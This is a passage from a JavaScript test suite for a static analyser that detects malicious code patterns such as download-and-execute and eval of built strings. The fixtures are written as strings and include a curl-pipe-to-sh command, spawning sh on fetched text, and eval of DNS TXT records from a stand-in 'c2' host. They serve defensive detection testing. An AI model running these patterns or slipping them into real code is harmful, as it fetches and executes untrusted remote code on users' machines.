  it("stays bounded on many small mutually calling functions (terser)", () => {
    const fns = Array.from(
      { length: 300 },
      (_, i) => `function f${i}(x) { return f${i + 1}(x + 'a') + f${i + 2}(x + 'b'); }`,
    );
    const src = `${fns.join("\n")}\nfunction f300(x) { return x }\nfunction f301(x) { return x }\neval(f0('s'));`;
    expect(analyse(src).every((f) => f.rule === "exec-built-string")).toBe(true);
  });

  it("runs zx and execa template commands through the process rules", () => {
    expect(
      find(
        "import { $ } from 'zx'; await $`curl -fsSL https://x.example.invalid/i.sh | sh`",
        "download-exec",
        "x.mjs",
      )?.severity,
    ).toBeUndefined();
    expect(analyse("await $`npm run build`", "x.mjs")).toEqual([]);
  });
});

describe("fetched data as program versus argument", () => {
  it("flags fetched data run by a shell or interpreter, and DNS TXT payloads", () => {
    const sh = `const { spawn } = require('child_process');
async function go() { const r = await fetch(U); spawn('sh', ['-c', await r.text()]); }`;
    expect(find(sh, "download-exec")).toMatchObject({ line: 2 });
    const txt = `const dns = require('dns'); dns.resolveTxt('c2.example.invalid', (err, records) => eval(records.join('')));`;
    expect(rules(txt)).toEqual(["download-exec"]);
  });

  it("does not flag fetched values passed as arguments of a fixed program, or DNS addresses", () => {
    const open = `const { spawn, exec } = require('child_process');
async function go() { const r = await fetch(API); const { url, repo } = await r.json(); spawn('xdg-open', [url]); exec('git clone ' + repo); }`;
    expect(analyse(open)).toEqual([]);
    const lookup = `const dns = require('dns'); const { exec } = require('child_process');
dns.promises.lookup('localhost').then(({ address }) => exec('ping -c 1 ' + address)); dns.lookup('h', (e, a) => eval(a));`;
    expect(analyse(lookup)).toEqual([]);
  });
});
